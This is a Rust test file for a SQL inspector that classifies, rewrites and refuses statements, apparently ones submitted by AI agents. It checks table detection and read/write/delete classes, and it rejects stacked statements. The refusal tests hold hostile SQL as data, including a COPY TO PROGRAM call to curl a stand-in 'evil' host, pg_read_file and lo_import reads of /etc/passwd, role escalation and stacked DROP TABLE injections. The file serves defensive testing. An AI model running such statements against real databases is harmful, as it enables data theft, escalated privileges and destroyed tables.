//! Statements as agents, and those who hijack them, write them.

use proptest::prelude::*;
use remit_core::tool::ToolClass;

use super::{Inspection, inspect};

fn read(text: &str) -> Inspection {
    inspect(text, "public").unwrap_or_else(|why| panic!("{text}: {why}"))
}

fn tables(text: &str) -> Vec<String> {
    read(text)
        .tables
        .iter()
        .map(|table| format!("{}/{}", table.schema, table.name))
        .collect()
}

fn refused(text: &str) -> String {
    match inspect(text, "public") {
        Ok(understood) => panic!("{text}: understood as {understood:?}"),
        Err(why) => why.to_string(),
    }
}

fn uses(text: &str) -> Vec<String> {
    let uses = read(text).uses;
    uses.iter()
        .map(|(table, verb)| format!("{verb} {}", table.name))
        .collect()
}

#[test]
fn what_is_done_with_each_table_is_told() {
    for (text, expected) in [
        ("SELECT * FROM a JOIN b USING (id)", &["read a", "read b"][..]),
        ("INSERT INTO b (x) VALUES (1)", &["insert b"]),
        ("INSERT INTO b SELECT * FROM a", &["read a", "insert b"]),
        (
            "INSERT INTO b (x) VALUES (1) RETURNING id",
            &["read b", "insert b"],
        ),
        ("UPDATE b SET x = y::int", &["read b", "update b"]),
        ("INSERT INTO b SELECT * FROM b", &["read b", "insert b"]),
        (
            "INSERT INTO b (x) VALUES ((SELECT max(x) FROM b))",
            &["read b", "insert b"],
        ),
        (
            "INSERT INTO b (x) VALUES (1) ON CONFLICT (x) DO UPDATE SET x = 2",
            &["read b", "insert b", "update b"],
        ),
        ("UPDATE b SET x = 1", &["update b"]),
        ("UPDATE b SET x = 1 WHERE x = 2", &["read b", "update b"]),
        ("UPDATE b SET x = a.x FROM a", &["read a", "read b", "update b"]),
        ("DELETE FROM b", &["delete b"]),
        (
            "DELETE FROM b USING a WHERE a.x = b.x",
            &["read a", "read b", "delete b"],
        ),
        ("TRUNCATE a, b", &["delete a", "delete b"]),
        (
            "WITH x AS (INSERT INTO b (x) VALUES (1)) SELECT * FROM a",
            &["read a", "insert b"],
        ),
        ("SELECT * FROM a FOR UPDATE", &["read a", "update a"]),
        ("CREATE INDEX i ON a (x)", &[]),
    ] {
        let mut expected: Vec<&str> = expected.to_vec();
        expected.sort_unstable();
        let mut found = uses(text);
        found.sort_unstable();
        assert_eq!(found, expected, "{text}");
    }
}

#[test]
fn verbs_have_their_class() {
    for (text, class) in [
        ("SELECT 1", ToolClass::Read),
        ("SELECT * FROM orders WHERE id = 7", ToolClass::Read),
        ("select count(*) from a join b using (id)", ToolClass::Read),
        ("EXPLAIN SELECT * FROM orders", ToolClass::Read),
        ("VALUES (1), (2)", ToolClass::Read),
        ("INSERT INTO orders (id) VALUES (1)", ToolClass::Write),
        ("UPDATE orders SET paid = true", ToolClass::Write),
        ("SELECT * FROM orders FOR UPDATE", ToolClass::Write),
        ("DELETE FROM orders WHERE id = 1", ToolClass::Delete),
        ("TRUNCATE orders", ToolClass::Delete),
        ("CREATE TABLE x (id int)", ToolClass::Privilege),
        ("ALTER TABLE orders ADD COLUMN x int", ToolClass::Privilege),
        ("DROP TABLE orders", ToolClass::Privilege),
        ("GRANT SELECT ON orders TO bob", ToolClass::Privilege),
        (
            "WITH x AS (SELECT 1) INSERT INTO orders SELECT * FROM x",
            ToolClass::Write,
        ),
        (
            "WITH x AS (DELETE FROM orders RETURNING *) SELECT * FROM x",
            ToolClass::Delete,
        ),
    ] {
        assert_eq!(read(text).class, class, "{text}");
    }
}

#[test]
fn every_table_is_named_wherever_it_stands() {
    assert_eq!(tables("SELECT * FROM orders"), ["public/orders"]);
    assert_eq!(tables("SELECT * FROM Erp.\"Orders\" o"), ["erp/Orders"]);
    assert_eq!(
        tables(
            "SELECT (SELECT max(x) FROM b) FROM a WHERE EXISTS (SELECT 1 FROM c) ORDER BY (SELECT y FROM d)"
        ),
        ["public/a", "public/b", "public/c", "public/d"]
    );
    assert_eq!(
        tables("INSERT INTO b SELECT * FROM a RETURNING (SELECT z FROM c)"),
        ["public/a", "public/b", "public/c"]
    );
    assert_eq!(
        tables("UPDATE a SET x = (SELECT y FROM b) FROM c WHERE a.id = c.id"),
        ["public/a", "public/b", "public/c"]
    );
    assert_eq!(
        tables("DELETE FROM a USING b WHERE a.id = b.id"),
        ["public/a", "public/b"]
    );
    assert_eq!(tables("TRUNCATE a, s.b"), ["public/a", "s/b"]);
    assert_eq!(
        tables("SELECT * FROM a UNION SELECT * FROM b EXCEPT (SELECT * FROM c)"),
        ["public/a", "public/b", "public/c"]
    );
    assert_eq!(
        tables("SELECT * FROM a, LATERAL (SELECT * FROM b WHERE b.id = a.id) x"),
        ["public/a", "public/b"]
    );
    assert_eq!(
        tables("SELECT * FROM generate_series(1, 3) g"),
        Vec::<String>::new()
    );
    assert_eq!(
        tables("SELECT * FROM unnest(ARRAY[1,2]) u, orders"),
        ["public/orders"]
    );
}

#[test]
fn a_common_table_expression_hides_no_table() {
    assert_eq!(
        tables("WITH x AS (SELECT * FROM a) SELECT * FROM x"),
        ["public/a"]
    );
    // Inside its own text the name still means the table.
    assert_eq!(
        tables("WITH payroll AS (SELECT * FROM payroll) SELECT * FROM payroll"),
        ["public/payroll"]
    );
    // The name of an inner query means nothing outside of it.
    assert_eq!(
        tables("SELECT * FROM (WITH payroll AS (SELECT 1) SELECT * FROM payroll) x, payroll"),
        ["public/payroll"]
    );
    assert_eq!(
        tables("SELECT * FROM payroll, (WITH payroll AS (SELECT 1) SELECT * FROM payroll) x"),
        ["public/payroll"]
    );
    // One that is written later is not there yet.
    assert_eq!(
        tables("WITH a AS (SELECT * FROM payroll), payroll AS (SELECT 1) SELECT * FROM a, payroll"),
        ["public/payroll"]
    );
    assert_eq!(
        tables("WITH RECURSIVE t AS (SELECT 1 AS n UNION ALL SELECT n + 1 FROM t) SELECT * FROM t"),
        Vec::<String>::new()
    );
    // A schema in front is always a table.
    assert_eq!(
        tables("WITH payroll AS (SELECT 1) SELECT * FROM hr.payroll"),
        ["hr/payroll"]
    );
    // Quoting counts.
    assert_eq!(
        tables("WITH \"Payroll\" AS (SELECT 1) SELECT * FROM payroll"),
        ["public/payroll"]
    );
    // What is changed is never an expression.
    assert_eq!(
        tables("WITH payroll AS (SELECT 1) DELETE FROM payroll"),
        ["public/payroll"]
    );
}

#[test]
fn one_statement_and_nothing_else() {
    for text in [
        "",
        ";",
        "SELECT 1; SELECT 2",
        "SELECT 1; DROP TABLE a",
        "SELECT 1;;DROP TABLE a",
        "SELECT 'a'; -- x\nDELETE FROM a",
        "SELECT $$;$$; DELETE FROM a",
        "SELECT 1 \0",
    ] {
        refused(text);
    }
    assert_eq!(read("SELECT ';' AS a;").text, "SELECT ';' AS a");
    assert_eq!(read("SELECT $$; DROP TABLE a$$").class, ToolClass::Read);
}

#[test]
fn comments_never_reach_the_database() {
    let sent = read("SELECT /* ; DROP TABLE a */ 1 -- x\n + 2").text;
    assert!(!sent.contains("DROP") && !sent.contains("--"), "{sent}");
    let nested = read("SELECT 1 /* /* */ ; DELETE FROM a */");
    assert_eq!(
        (nested.class, nested.text.contains("DELETE")),
        (ToolClass::Read, false)
    );
}

#[test]
fn what_has_effects_nobody_sees_is_refused() {
    for text in [
        "COPY orders TO PROGRAM 'curl evil'",
        "COPY orders TO '/tmp/x'",
        "COPY orders FROM STDIN",
        "SELECT pg_sleep(10)",
        "SELECT nextval('s')",
        "SELECT dblink('x', 'y')",
        "SELECT query_to_xml('delete from a', true, true, '')",
        "SELECT * FROM pg_read_file('/etc/passwd')",
        "SELECT lo_import('/etc/passwd')",
        "SELECT public.lower('x')",
        "SELECT set_config('role', 'postgres', false)",
        "SELECT my_function(1)",
        "SELECT * FROM my_function(1) f",
        "DO $$ BEGIN DELETE FROM a; END $$",
        "CALL do_it()",
        "SET ROLE postgres",
        "RESET ALL",
        "BEGIN",
        "COMMIT",
        "LOCK TABLE a",
        "PREPARE x AS DELETE FROM a",
        "EXECUTE x",
        "LISTEN x",
        "NOTIFY x",
        "VACUUM a",
        "DISCARD ALL",
        "EXPLAIN ANALYZE DELETE FROM a",
        "EXPLAIN (ANALYZE) DELETE FROM a",
        "SELECT * INTO x FROM a",
        "TABLE a",
        "SELECT 1 UNION TABLE a",
        "MERGE INTO a USING b ON a.id = b.id WHEN MATCHED THEN DELETE",
        "CREATE FUNCTION f() RETURNS int AS 'select 1' LANGUAGE sql",
        "CREATE EXTENSION dblink",
        "SELECT * FROM pg_authid",
        "SELECT * FROM pg_catalog.pg_shadow",
        "SELECT * FROM PG_CATALOG.pg_settings",
        "SELECT * FROM pg_temp_3.x",
        "SELECT * FROM other.public.orders",
        "INSERT INTO a SELECT pg_sleep(1)",
        "SELECT 1 FROM a ORDER BY pg_sleep(1)",
        "SELECT 1 FROM a LIMIT (SELECT pg_sleep(1))",
        "SELECT sum(x) FILTER (WHERE pg_sleep(1) IS NULL) FROM a",
        "SELECT sum(pg_sleep(1)) OVER () FROM a",
        "UPDATE a SET x = my_function(1)",
        "CREATE SCHEMA x",
        "CREATE ROLE x",
        "CREATE TRIGGER t BEFORE INSERT ON a EXECUTE FUNCTION f()",
        // A function without its parentheses.
        "SELECT (0.5::float8).pg_sleep",
        "SELECT (SELECT path FROM a LIMIT 1).pg_read_file",
        "SELECT (path).pg_read_file FROM a",
        "SELECT (t.path).pg_read_file FROM a t",
        "SELECT (ARRAY['/etc/passwd'])[1].pg_read_file",
        "SELECT t.paths[1].pg_read_file FROM a t",
        "SELECT x.pg_read_file FROM unnest(ARRAY['/etc/passwd']) x",
        "SELECT X.PG_READ_FILE FROM unnest(ARRAY['/etc/passwd']) AS x",
        "SELECT x.pg_read_file FROM a, LATERAL unnest(a.paths) x",
        "SELECT x.pg_read_file FROM a, LATERAL lower(a.path) x",
        "SELECT unnest.pg_read_file FROM unnest(ARRAY['/etc/passwd'])",
        "SELECT x.pg_sleep FROM generate_series(1, 9) x",
        "SELECT x.pg_sleep[1] FROM generate_series(1, 9) x",
        "SELECT generate_series.pg_sleep FROM generate_series(1, 9)",
        "SELECT x.pg_sleep FROM generate_series(1, 9) WITH ORDINALITY AS x",
        "SELECT x.pg_sleep FROM generate_series(1, 9) x WHERE EXISTS (SELECT 1 FROM b x(pg_sleep))",
        "SELECT 1 FROM a WHERE EXISTS (SELECT 1 FROM string_to_table(a.path, ',') x WHERE x.pg_read_file > '')",
        // Operators and types of somebody's own.
        "SELECT 1 OPERATOR(public.+) 1",
        "SELECT 1 OPERATOR(pg_catalog.+) 1",
        "SELECT a @#@ b FROM t",
        "SELECT a <=> b FROM t",
        "SELECT !a FROM t",
        "SELECT * FROM a ORDER BY x USING <",
        "SELECT 'x'::my_type",
        "SELECT CAST(x AS public.text) FROM a",
        "SELECT my_type 'x'",
        "SELECT 'x'::my_type[]",
        "SELECT 'a'::regclass",
        "SELECT 'lower'::regproc",
    ] {
        refused(text);
    }
}

#[test]
fn names_with_a_dot_are_columns_where_they_can_be_nothing_else() {
    let attributes = |text: &str| read(text).attributes;
    assert_eq!(attributes("SELECT id FROM orders"), Vec::<String>::new());
    assert_eq!(
        attributes("SELECT o.id, C.Name, s.t.x, o.\"Paid\" FROM orders o JOIN c ON c.id = o.c"),
        ["Paid", "c", "id", "name", "x"]
    );
    for text in [
        "SELECT x.x FROM unnest(ARRAY[1, 2]) x",
        "SELECT x.n, x.i FROM unnest(ARRAY[1, 2]) WITH ORDINALITY AS x(n, i)",
        "SELECT g.ordinality FROM generate_series(1, 3) WITH ORDINALITY AS g",
        "SELECT e.key, e.value FROM orders o, LATERAL jsonb_each(o.lines) e",
        "SELECT x.upper FROM unnest(ARRAY['q']) x(upper)",
        "SELECT o.tags[1], (o.tags)[2], (ARRAY[1])[1] FROM orders o",
    ] {
        read(text);
    }
}

#[test]
fn casts_to_plain_types_and_plain_operators_are_let_through() {
    for text in [
        "SELECT '1'::int, CAST('1' AS numeric(10, 2)), '{a}'::text[], '1'::pg_catalog.int4, x::varchar(20) FROM a",
        "SELECT DATE '2026-01-01', TIMESTAMP '2026-01-01', INTERVAL '1 day', now()::timestamptz, '10.0.0.1'::inet",
        "SELECT '[1,2)'::int4range, '{}'::jsonb -> 'a' ->> 'b', '{}'::json #>> '{a}', 'x'::uuid, 1::double precision",
        "SELECT a @> b, a <@ b, a && b, a || b, a ~* 'x', a !~~ 'x', a <-> b, a @@ to_tsquery('x'), a ? 'k' FROM t",
        "SELECT 1 FROM a WHERE x = ANY (ARRAY[1, 2]) AND y <> ALL (ARRAY['a']) AND NOT z OR (u, v) OVERLAPS (w, q)",
        "SELECT x IS DISTINCT FROM y, x BETWEEN 1 AND 2, x LIKE 'a%', x IN (1, 2), x % 2, -x, x ^ 2 FROM a",
    ] {
        read(text);
    }
}

#[test]
fn a_name_means_here_what_it_means_there() {
    // Cut off by PostgreSQL, it would be another table.
    let (long, longest) = ("x".repeat(64), "x".repeat(63));
    let why = refused(&format!("SELECT * FROM {long}"));
    assert!(why.contains("63"), "{why}");
    refused(&format!("SELECT * FROM \"{}\"", "ä".repeat(32)));
    refused(&format!("SELECT {long} FROM a"));
    refused(&format!("WITH {long} AS (SELECT 1) SELECT 1"));
    assert_eq!(
        tables(&format!("SELECT * FROM {longest}")),
        [format!("public/{longest}")]
    );
    // Letters beyond ASCII are folded by some databases and not by others.
    refused("SELECT * FROM Ärzte");
    refused("WITH Ärzte AS (SELECT 1) SELECT * FROM ärzte");
    assert_eq!(tables("SELECT * FROM \"Ärzte\""), ["public/Ärzte"]);
    assert_eq!(
        tables("WITH \"Ärzte\" AS (SELECT 1) SELECT * FROM \"ärzte\""),
        ["public/ärzte"]
    );
    // What is sent names the table that was decided on, and nothing else.
    for (text, sent) in [
        (
            "SELECT Orders.id FROM Orders WHERE orders.id IN (SELECT x FROM erp.\"B\")",
            "SELECT Orders.id FROM \"public\".\"orders\" WHERE orders.id IN (SELECT x FROM \"erp\".\"B\")",
        ),
        (
            "WITH o AS (SELECT * FROM orders) SELECT * FROM o",
            "WITH o AS (SELECT * FROM \"public\".\"orders\") SELECT * FROM o",
        ),
        (
            "WITH payroll AS (SELECT 1) DELETE FROM payroll",
            "WITH payroll AS (SELECT 1) DELETE FROM \"public\".\"payroll\"",
        ),
        (
            "SELECT * FROM orders FOR UPDATE OF orders",
            "SELECT * FROM \"public\".\"orders\" FOR UPDATE OF orders",
        ),
        // Without quotation marks it would be a function of its own kind.
        (
            "SELECT * FROM current_user x",
            "SELECT * FROM \"public\".\"current_user\" x",
        ),
        ("TRUNCATE a, s.b", "TRUNCATE \"public\".\"a\", \"s\".\"b\""),
        (
            "INSERT INTO a (x) VALUES (1)",
            "INSERT INTO \"public\".\"a\" (x) VALUES (1)",
        ),
        ("UPDATE a SET x = 1", "UPDATE \"public\".\"a\" SET x = 1"),
        (
            "SELECT * FROM generate_series(1, 3) u",
            "SELECT * FROM generate_series(1, 3) u",
        ),
        ("CREATE TABLE x (id INT)", "CREATE TABLE x (id INT)"),
        ("CREATE INDEX i ON a(x)", "CREATE INDEX i ON a(x)"),
    ] {
        assert_eq!(read(text).text, sent, "{text}");
    }
}

#[test]
fn a_statement_changes_in_one_way() {
    let why = refused("WITH d AS (DELETE FROM a RETURNING *) INSERT INTO b SELECT * FROM d");
    assert!(why.contains("two ways"), "{why}");
}

#[test]
fn changes_that_read_say_so() {
    assert!(!read("INSERT INTO b (x) VALUES (1)").reads_too);
    assert!(!read("UPDATE b SET x = 1").reads_too);
    assert!(!read("UPDATE b SET x = DEFAULT, y = NULL, z = now() + INTERVAL '1 day'").reads_too);
    assert!(!read("INSERT INTO b (x, y) VALUES (DEFAULT, lower('X'))").reads_too);
    assert!(!read("DELETE FROM b").reads_too);
    for text in [
        // An error would quote the value.
        "UPDATE b SET n = CAST(secret AS int)",
        "UPDATE b SET n = b.secret::int",
        "UPDATE b SET n = (b.secret)[1]::int",
        "UPDATE b SET n = lower(\"default\")::int",
        "UPDATE b SET (n, m) = (1, secret::int)",
        "UPDATE b SET n = b::text::int",
        "INSERT INTO b (x) VALUES (1) RETURNING *",
        "INSERT INTO b (x) VALUES (1) RETURNING id",
        "INSERT INTO b DEFAULT VALUES RETURNING 1",
        "ALTER TABLE b ALTER COLUMN n TYPE int USING secret::int",
        "INSERT INTO b SELECT * FROM a",
        "INSERT INTO b (x) VALUES ((SELECT y FROM a))",
        "INSERT INTO b (x) VALUES (1) ON CONFLICT (x) DO UPDATE SET x = 2",
        "UPDATE b SET x = 1 WHERE id = 1",
        "UPDATE b SET x = x RETURNING *",
        "DELETE FROM b WHERE id = 1",
    ] {
        assert!(read(text).reads_too, "{text}");
    }
}

#[test]
fn names_become_resources() {
    let erp = "erp".parse().unwrap();
    let shown = |text: &str| {
        read(text)
            .resources(&erp)
            .map(|all| all.iter().map(ToString::to_string).collect::<Vec<_>>())
    };
    assert_eq!(shown("SELECT * FROM orders").unwrap(), ["erp:public/orders"]);
    assert_eq!(shown("DROP TABLE orders").unwrap(), ["erp:"]);
    assert!(shown("SELECT * FROM \"a/b\"").is_err());
    assert!(shown("SELECT * FROM \"..\"").is_err());
}

#[test]
fn deep_and_long_statements_end_quickly() {
    refused(&format!("SELECT {}1{}", "(".repeat(5000), ")".repeat(5000)));
    refused(&format!("SELECT {}", "1+".repeat(40_000)));
    let chain = format!("SELECT {}1", "1+".repeat(16_000));
    assert_eq!(read(&chain).class, ToolClass::Read);
    let deep = "SELECT * FROM (".repeat(200) + "SELECT 1" + &") x".repeat(200);
    refused(&deep);
}

proptest! {
    /// Whatever is understood is sent as it was understood, and nothing panics.
    #[test]
    fn what_is_sent_is_what_was_understood(
        words in proptest::collection::vec(
            prop_oneof![
                Just("SELECT"), Just("*"), Just("FROM"), Just("a"), Just("b"), Just("WITH"), Just("AS"), Just("("), Just(")"),
                Just(","), Just("INSERT INTO"), Just("VALUES"), Just("1"), Just("'x'"), Just("DELETE"), Just("WHERE"),
                Just("UPDATE"), Just("SET"), Just("="), Just(";"), Just("--"), Just("/*"), Just("*/"), Just("$$"), Just("E'\\''"),
                Just("\"q\""), Just("UNION"), Just("RETURNING"), Just("."), Just("::"), Just("int"),
            ],
            0..24,
        )
    ) {
        let text = words.join(" ");
        if let Ok(one) = inspect(&text, "public") {
            let again = inspect(&one.text, "public").unwrap();
            prop_assert_eq!(again, one);
        }
    }
}
